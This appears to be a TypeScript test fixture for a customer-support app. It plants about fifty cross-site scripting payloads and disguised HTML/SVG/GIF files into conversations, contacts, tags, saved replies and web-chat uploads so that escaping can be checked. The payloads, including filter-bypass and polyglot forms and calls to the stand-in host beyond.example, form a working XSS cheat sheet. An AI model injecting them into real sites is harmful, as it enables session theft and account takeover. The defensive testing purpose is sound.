/**
 * Hostile markup of every published kind, each of which calls `__xss` when a browser makes anything of it but text, and
 * the doors through which somebody can write it: signed calls, a web chat, and whoever works at the desk.
 */
import { type Belongings, clientId, done, messageFrom, postHook, until } from './belongings.ts'
import { identityFor, Visitor } from './customers.ts'
import type { Stage } from './probe.ts'

const RUN = '__xss(1)'

/** Short enough for a name. `beyond.example` would be told by a request that is made there. */
export const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=//beyond.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=//beyond.example/seen.png>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script href="data:,${RUN}"></script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="jAvA&#x09;sCrIpT:${RUN}">press</a>`,
  `[press](javascript:${RUN})`,
  `![seen](https://beyond.example/seen.png)`,
  `javascript:${RUN}//https://shop.example/`,
  `https://shop.example/"onmouseover="${RUN}`,
  `https://shop.example/<img/src/onerror=${RUN}>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMSk8L3NjcmlwdD4=`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror='${RUN}'>`,
  `" autofocus onfocus="${RUN}" x="`,
  `</title></style></textarea></script><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `<form action=javascript:${RUN}><button>press</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//beyond.example/>`,
  `<link rel=stylesheet href=//beyond.example/x.css>`,
  `<style>@import '//beyond.example/x.css';</style>`,
  `<div style="background:url(//beyond.example/seen.png)">`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `+ADw-img src=x onerror=${RUN}+AD4-`,
  `＜img src=x onerror=${RUN}＞`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
]
/** As short as a tag. */
export const HOSTILE_SHORT = `<img src=x onerror=${RUN}>`

/** As long as a comment on a contact may be. */
export const HOSTILE_COMMENT = HOSTILE.join(' ').slice(0, 1_000)

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="top.${RUN}"><script>top.${RUN}</script></svg>`
const HTML = `<!doctype html><script>${RUN}</script><img src=x onerror=${RUN}>`
export const HOSTILE_FILES: readonly (readonly [fileName: string, content: string])[] = [
  ['page.html', HTML],
  ['picture.svg', SVG.replaceAll('top.', '')],
  ['really.png', HTML],
  ['feed.xml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`],
  [`${HOSTILE_SHORT}.txt`, HTML],
  ['looks-like.gif', `GIF89a/*${HTML}*/=1;${RUN}`],
]

/** Where the words stand afterwards. */
export type Written = {
  readonly conversation: string
  readonly contact: string
  readonly savedReply: string
  readonly inbox: string
}

export async function writeHostileWords(stage: Stage, own: Belongings): Promise<Written> {
  const { owner, at } = own
  const put = (method: string, path: string, body: unknown) => done(owner.call(method, path, { body }), path)
  const { signingSecret } = own.apiInbox
  await Promise.all(
    HOSTILE.map((text) => done(postHook(stage, own.apiInbox, signingSecret, messageFrom('hostile', text)), 'a call')),
  )
  await byNames(stage, own)
  await byVisitors(stage, own)
  const row = await until(async () => {
    const { conversations } = await done(owner.call('GET', `${at}/conversations?view=all&limit=100`), 'the list')
    return conversations.find((one: { contact: { name: string }; lastMessageNumber: number }) => {
      return one.contact.name === 'Somebody hostile' && one.lastMessageNumber >= HOSTILE.length
    })
  }, 'the conversation')
  const here = `${at}/conversations/${row.id}`
  for (const [fileName, content] of HOSTILE_FILES) {
    const headers = { 'content-type': 'text/html' }
    const path = `${at}/attachments?fileName=${encodeURIComponent(fileName)}`
    const { id } = await done(owner.call('POST', path, { headers, body: Buffer.from(content) }), 'an upload')
    const note = { clientMessageId: clientId(), text: HOSTILE_SHORT, attachmentIds: [id] }
    await put('POST', `${here}/notes`, note)
  }
  const reply = {
    clientMessageId: clientId(),
    text: HOSTILE.join(' '),
    attachmentIds: [],
    seenNumber: 999,
    force: true,
  }
  await put('POST', `${here}/messages`, reply)
  await put('PUT', `${here}/drafts/reply`, { text: HOSTILE.join(' ') })
  const tag = await put('POST', `${at}/tags`, { name: HOSTILE_SHORT, colour: 'teal' })
  await put('PUT', `${here}/tags/${tag.id}`, undefined)
  const saved = { shortcut: 'hostile', title: HOSTILE_SHORT, text: HOSTILE.join(' '), language: 'en' }
  const { id: savedReply } = await put('POST', `${at}/saved-replies`, saved)
  await put('PATCH', `${at}/contacts/${row.contact.id}`, { name: HOSTILE_SHORT, comment: HOSTILE_COMMENT })
  await put('PATCH', `${at}/inboxes/${own.apiInbox.id}`, { name: HOSTILE_SHORT })
  const settings = { colour: '#0b6b62', greeting: HOSTILE_SHORT }
  await put('PATCH', `${at}/inboxes/${own.webchat.id}`, { name: HOSTILE_SHORT, settings })
  await put('PATCH', at, { name: HOSTILE_SHORT })
  await put('PATCH', '/api/v1/preferences', { name: HOSTILE_SHORT })
  return { conversation: row.id, contact: row.contact.id, savedReply, inbox: own.apiInbox.id }
}

/** Each string as somebody's name, and the first ones as what a site calls them. */
async function byNames(stage: Stage, own: Belongings): Promise<void> {
  const { signingSecret } = own.apiInbox
  const calls = HOSTILE.map((name, at) => {
    const from = { id: at % 5 === 0 ? name : `named-${at}`, name }
    const message = JSON.stringify({ type: 'message', id: clientId(), from, text: name })
    return done(postHook(stage, own.apiInbox, signingSecret, message), 'a call')
  })
  await Promise.all(calls)
}

async function byVisitors(stage: Stage, own: Belongings): Promise<void> {
  const identity = identityFor(own.webchat, { sub: HOSTILE_SHORT, name: HOSTILE_SHORT, email: '"<b>"@mail.example' })
  const visitor = await Visitor.come(stage, own.webchat, { identity })
  const files: string[] = []
  for (const [fileName, content] of HOSTILE_FILES) files.push(await visitor.upload(fileName, Buffer.from(content)))
  await done(visitor.write(HOSTILE.join(' '), files), 'a visitor’s message')
}
